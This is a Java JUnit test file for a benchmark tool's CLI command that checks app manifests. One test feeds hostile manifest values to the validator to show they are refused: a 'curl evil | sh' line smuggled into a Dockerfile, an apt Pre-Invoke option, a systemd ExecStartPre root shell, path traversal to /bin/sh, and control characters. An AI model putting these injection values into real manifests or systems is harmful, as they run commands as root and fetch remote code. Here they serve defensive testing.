package org.gallerybench.engine.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.gallerybench.environments.TestServer;
import org.gallerybench.environments.subject.SubjectManifests;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code gallerybench subject list | check}, through the CLI as a user runs it: the two subjects that ship are listed and
 * read, and each kind of mistake in a manifest is one message that names the file, the line, and what to write; the
 * subject's folder is never changed by a check.
 */
class SubjectCommandTest {
    @TempDir
    Path home;


    TestCli.Outcome cli(String... args) {
        return TestCli.at(home).run(args);
    }

    @Test
    void theShippedSubjectsAreListedAndTheirManifestsAreFine() {
        TestCli.Outcome list = cli("subject", "list");
        assertThat(list.code()).as(list.err()).isZero();
        assertThat(list.out()).contains("gallery ").contains("(the default)").contains("flask-gallery").contains("local, docker, gvisor, vm");

        TestCli.Outcome flask = cli("subject", "check", "flask-gallery");
        assertThat(flask.code()).as(flask.err()).isZero();
        assertThat(flask.out()).startsWith("flask-gallery 1: the manifest is fine (build ")
                .contains("port from $PORT").contains("image = GET /static/uploads/{image}").contains("upload = POST /upload")
                .contains("static/uploads inside the app (the run works in a copy of its files), named by $UPLOAD_DIR (checked by listing the folder)");
        TestCli.Outcome gallery = cli("subject", "check", TestServer.projectRoot().resolve("subjects/gallery").toString());
        assertThat(gallery.code()).as(gallery.err()).isZero();
        assertThat(gallery.out()).contains("the built-in gallery").contains("GET /api/images");
    }

    @Test
    void eachMistakeIsOneMessageWithItsLineAndWhatToWrite() throws Exception {
        String good = Files.readString(TestServer.projectRoot().resolve("subjects/flask-gallery/" + SubjectManifests.FILE));

        assertThat(check(good.replace("name = \"flask-gallery\"\n", ""), "app.py"))
                .contains("no name: write name = \"my-app\" at the top");
        assertThat(check(good.replace("[local]\ncommand", "[local]\ncomand"), "app.py"))
                .matches("(?s).*subject.toml line 1[0-9]: unknown key 'comand' in \\[local\\]: did you mean 'command'\\?.*")
                .contains("The keys there are command, env.");
        assertThat(check(good.replace("port_env = \"PORT\"", "port_env = 8080"), "app.py"))
                .matches("(?s).*line \\d+: 'port_env' must be a string in double quotes \\(in \\[listen\\]\\)\\..*");
        assertThat(check(good.replace("[local]\ncommand = [\"gunicorn\"", "[local]\ncommand = \"gunicorn\" #"), "app.py"))
                .containsAnyOf("'command' must be a list of strings", "not valid TOML");
        assertThat(check(good.replace("path = \"/static/uploads/{image}\"", "path = \"/static/uploads/\""), "app.py"))
                .matches("(?s).*line \\d+: \\[requests.image\\]'s path names the image with \\{image\\}.*");
        assertThat(check(good.replace("[store]\nfolder = \"static/uploads\"\nenv = \"UPLOAD_DIR\"\nlisting = \"folder\"\n", ""), "app.py"))
                .contains("image requests need stored images: add [store]");
        assertOneLine(check(good.replace("folder = \"static/uploads\"", "folder = \"../outside\""), "app.py"),
                "[store] folder '../outside' must be a folder inside the app's files");
        assertOneLine(check(good.replace("folder = \"static/uploads\"\nenv = \"UPLOAD_DIR\"\n", ""), "app.py"),
                "[store] says nowhere where the images are");
        assertThat(check(good, "other.py")).contains("[container] copies \"app.py\", which is not in");
        assertThat(check("name = \"x\"\n[listen\nport_env = \"PORT\"\n", "app.py")).contains("line 2").contains("not valid TOML");
        assertThat(check(good.replace("[requests.upload]", "[requests.download]"), "app.py"))
                .contains("[requests.download] is not a request kind: use page, image or upload.");

        TestCli.Outcome none = cli("subject", "check", home.resolve("no-such-folder").toString());
        assertThat(none.code()).isEqualTo(2);
        assertThat(none.err()).contains("No subject '" + home.resolve("no-such-folder") + "': choose one of ").contains("flask-gallery");
    }

    /**
     * A manifest is data: every value that could become code where it goes (a Dockerfile's RUN line, a unit file, apt's
     * options, a shell) is refused before anything runs, one line each that names the line and what is wrong. TOML's
     * escapes make a newline, a tab or a NUL one character of a string, as an attacker would write them.
     */
    @Test
    void hostileValuesAreRefusedOneLineEach() throws Exception {
        String good = Files.readString(TestServer.projectRoot().resolve("subjects/flask-gallery/" + SubjectManifests.FILE));
        String containerPackages = "[container]\npackages = [\"python3-flask\", \"gunicorn\"]";
        String vmPackages = "[vm]\npackages = [\"python3-flask\", \"gunicorn\"]";
        // A newline in a package would start a new Dockerfile instruction.
        assertOneLine(check(good.replace(containerPackages, "[container]\npackages = [\"python3\\nRUN curl evil | sh\"]"), "app.py"),
                "line 16: [container] packages: 'python3\\nRUN curl evil | sh' is not a Debian package's name");
        // A package that starts with -o is an apt option that runs a command as root.
        assertOneLine(check(good.replace(vmPackages, "[vm]\npackages = [\"-oAPT::Update::Pre-Invoke::=id\"]"), "app.py"),
                "line 21: [vm] packages: '-oAPT::Update::Pre-Invoke::=id' is not a Debian package's name");
        assertOneLine(check(good.replace(vmPackages, "[vm]\npackages = [\"Flask; id\"]"), "app.py"), "is not a Debian package's name");
        // A newline in a variable's value would add ExecStartPre=+... to the unit, run as root in the guest.
        assertOneLine(check(good.replace(vmPackages, vmPackages + "\nenv = { MODE = \"x\\nExecStartPre=+/bin/sh -c id\" }"), "app.py"),
                "line 22: [vm] env: the value of MODE holds a control character");
        assertOneLine(check(good.replace(containerPackages, containerPackages + "\nenv = { \"A-B\" = \"1\" }"), "app.py"),
                "[container] env: 'A-B' is not a variable's name");
        assertOneLine(check(good.replace("port_env = \"PORT\"", "port_env = \"PORT;id\""), "app.py"), "port_env 'PORT;id' is not a variable's name");
        // The program is what systemd and env read first: + runs it as root, - is an option, a tab splits it.
        assertOneLine(check(good.replace("[local]\ncommand = [\"gunicorn\"", "[local]\ncommand = [\"+/bin/sh\""), "app.py"),
                "[local] command: the program '+/bin/sh' must be a name on PATH or a path in the app's folder");
        assertOneLine(check(good.replace("[local]\ncommand = [\"gunicorn\"", "[local]\ncommand = [\"../../bin/sh\""), "app.py"),
                "[local] command: the program '../../bin/sh' is outside the app's folder");
        assertOneLine(check(good.replace("[local]\ncommand = [\"gunicorn\", \"--workers\", \"1\"",
                "[local]\ncommand = [\"gunicorn\", \"--workers\", \"1\\u0000\""), "app.py"), "line 13: [local] command: an argument holds a control character");
        assertOneLine(check(good.replace("field = \"file\"", "field = \"file\\\"; filename=\\\"x\""), "app.py"), "'s field 'file\"; filename=\"x' must be");
        assertOneLine(check(good.replace("ready_path = \"/\"", "ready_path = \"/ x\""), "app.py"), "ready_path '/ x' must be a URL path");
        assertOneLine(check(good.replace("files = [\"app.py\"]\ncommand = [\"gunicorn\", \"--workers\", \"1\", \"--bind\", \"${HOST}:${PORT}\", \"app:app\"]\n\n[vm]",
                "files = [\"app.py\"]\ncommand = [\"gunicorn\", \"--workers\", \"1\", \"--bind\", \"${HOST}:${PORT}\", \"app:app\"]\n"
                        + "dockerfile = \"../../Dockerfile\"\n\n[vm]"), "app.py"), "is outside the app's folder");
        // What is fine stays fine: $, backticks, quotes, % and a leading - in an argument are one argument's text.
        Path dir = Files.createTempDirectory(home, "subject-");
        Files.writeString(dir.resolve(SubjectManifests.FILE), good.replace("\"--workers\", \"1\"",
                "\"--workers\", \"1\", \"--name=$(id) `id` '%n' \\\"q\\\" $HOME ;\""));
        Files.writeString(dir.resolve("app.py"), "print('hello')\n");
        TestCli.Outcome fine = cli("subject", "check", dir.toString());
        assertThat(fine.code()).as(fine.err()).isZero();
    }

    /** One line: the error names the file and says what is wrong, with no second line. */
    private static void assertOneLine(String err, String says) {
        assertThat(err.strip().lines()).as(err).hasSize(1);
        assertThat(err).contains(says);
    }

    /** Writes a manifest and one file into a folder of its own, checks it through the CLI, and returns the error (exit 2). */
    private String check(String manifest, String file) throws Exception {
        Path dir = Files.createTempDirectory(home, "subject-");
        Files.writeString(dir.resolve(SubjectManifests.FILE), manifest);
        Files.writeString(dir.resolve(file), "print('hello')\n");
        List<String> before = listing(dir);
        TestCli.Outcome o = cli("subject", "check", dir.toString());
        assertThat(o.code()).as("a wrong manifest is an error: " + o.out()).isEqualTo(2);
        assertThat(o.err()).startsWith("gallerybench: error: " + dir.resolve(SubjectManifests.FILE))
                .doesNotContain("com.fasterxml").doesNotContain("Exception").doesNotContain("\tat ");
        assertThat(listing(dir)).as("a check changes nothing in the folder").isEqualTo(before);
        return o.err();
    }

    private static List<String> listing(Path dir) throws Exception {
        try (var files = Files.list(dir)) {
            return files.map(p -> p.getFileName() + ":" + p.toFile().length() + ":" + p.toFile().lastModified()).sorted().toList();
        }
    }
}
